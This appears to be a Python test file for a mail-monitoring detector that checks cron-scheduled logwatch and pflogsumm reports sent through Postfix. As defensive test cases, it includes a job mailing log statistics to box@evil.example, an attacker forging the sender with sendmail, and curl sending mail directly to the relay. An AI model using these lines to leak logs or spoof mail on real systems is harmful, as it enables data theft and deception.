# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Reports: logwatch from cron.daily, and pflogsumm from a user's crontab, by the cron daemon, through Postfix."""

import unittest

from harness import Sink, get, short
from mta import Postfix
from scenario import ATTACKER, SystemCase

MAIN = """
myorigin = corp.example
transport_maps = inline:{{ {{ relay@corp.example = smtp:[127.0.0.1]:{other} }} }}
"""
# One mail of the user each three seconds: Postfix says at which second it got a mail.
CRONTAB = """PATH=/usr/sbin:/usr/bin:/sbin:/bin
@reboot root cd / && run-parts --report /etc/cron.daily
@reboot reports {statistics} one@corp.example
@reboot reports sleep 3; {statistics} relay@corp.example
@reboot reports sleep 6; {statistics} box@evil.example
@reboot reports sleep 9; printf '{text}' | /usr/sbin/sendmail exe@corp.example
@reboot reports sleep 12; {statistics} two@corp.example
@reboot reports sleep 15; {statistics} three@corp.example
"""
TEXT = r"From: reports@corp.example\nSubject: Mail statistics\n\nGrand Totals\n"
STATISTICS = '/usr/sbin/pflogsumm /var/log/mail.log | mail -s "Mail statistics"'
AUTH_LOG = "{day} 06:00:00 mta sshd[77]: Accepted password for alice from 192.0.2.7 port 5000 ssh2\n"
MAIL_LOG = """{day} 06:00:01 mta postfix/qmgr[10]: 4F1B2C3D: from=<a@corp.example>, size=500, nrcpt=1 (queue active)
{day} 06:00:02 mta postfix/smtp[11]: 4F1B2C3D: to=<b@corp.example>, relay=mx[192.0.2.9]:25, delay=1, dsn=2.0.0, status=sent
"""
LOGWATCH = """
MailTo = daily@corp.example
Range = today
TmpDir = /run
"""


class Reports(SystemCase):
    accounts = ("reports",)

    def setUp(self):
        super().setUp()
        self.good, self.other = Sink(self), Sink(self)
        root = Postfix(type(self), self.good.port, main=MAIN.format(other=self.other.port)).root
        day = root.run("date", "+%b %e").decode().strip()
        root.write("/var/log/auth.log", AUTH_LOG.format(day=day))
        root.write("/var/log/mail.log", MAIL_LOG.format(day=day))
        root.write("/etc/logwatch/conf/logwatch.conf", LOGWATCH)
        root.write("/etc/crontab", CRONTAB.format(statistics=STATISTICS, text=TEXT))
        root.run("sh", "-c", "find /etc/cron.d /var/spool/cron/crontabs -type f -delete;"
                 "find /etc/cron.daily -type f ! -name 00logwatch -delete")
        self.begin(root, "scheduled-report", self.good.port)

    def failed(self, recipient, name="mail-statistics", timeout_s=20):
        return sorted(get(self.assert_alert(self.now, recipient, name, timeout_s=timeout_s), "smtpsnoop.nearest.failed"))

    def test_reports_through_postfix(self):
        self.start("/usr/sbin/cron", "-f")
        self.by_cron()
        event = self.assert_excluded(self.now, "daily@corp.example", "logwatch", 60)
        self.assertEqual((get(event, "smtpsnoop.origin.user"), get(event, "smtpsnoop.origin.process.script")),
                         ("root", "/usr/sbin/logwatch"), short(event))
        self.assert_schedule("daily@corp.example", "logwatch")
        self.by_hand()
        self.end()

    def by_cron(self):
        event = self.assert_excluded(self.now, "one@corp.example", "mail-statistics", 60)
        self.assertEqual((get(event, "smtpsnoop.origin.user"), get(event, "smtpsnoop.origin.how")), ("reports", "time"))
        self.assert_schedule("one@corp.example", "mail-statistics")
        self.assertEqual(self.failed("relay@corp.example"), ["relay"])
        self.assertEqual(self.failed("box@evil.example"), ["mail.recipients"])
        self.assertEqual(self.failed("exe@corp.example"), ["origin.executable"])
        self.assert_excluded(self.now, "two@corp.example", "mail-statistics", 20)
        self.assert_limit("three@corp.example", "mail-statistics")

    def by_hand(self):
        """The same mails, but not by the jobs. The limit is used up by now, so each fails that as well."""
        limits = ["limits.messages"]
        self.shell("reports", f"{STATISTICS} hand@corp.example")
        self.assertEqual(self.failed("hand@corp.example"), limits + ["origin.scheduled_by"])
        self.shell(ATTACKER, f"printf '{TEXT}' | /usr/sbin/sendmail -f reports@corp.example user@corp.example")
        self.assertEqual(self.failed("user@corp.example"),
                         limits + ["origin.executable", "origin.scheduled_by", "origin.user"])
        self.shell("reports", "echo 'A link' | mail -s 'Mail statistics' text@corp.example")
        self.assertIn("mail.contains", self.failed("text@corp.example"))
        # Another program speaks SMTP to the relay itself, without Postfix.
        text = self.write("mail.txt", "Subject: Mail statistics\r\n\r\nGrand Totals\r\n", 0o644)
        self.shell("reports", f"curl -sS smtp://127.0.0.1:{self.good.port} --mail-from reports@corp.example "
                   f"--mail-rcpt direct@corp.example -T {text}")
        self.assertIn("process.executable", self.failed("direct@corp.example", "scheduled-report"))
        # Root, but not logwatch.
        self.shell("root", "printf 'Subject: Logwatch for mta (Linux)\\n\\nLogwatch End\\n' | "
                   "/usr/sbin/sendmail -f root@corp.example root@corp.example")
        self.assertEqual(self.failed("root@corp.example", "logwatch"),
                         ["origin.executable", "origin.scheduled_by", "origin.script"])


if __name__ == "__main__":
    unittest.main()
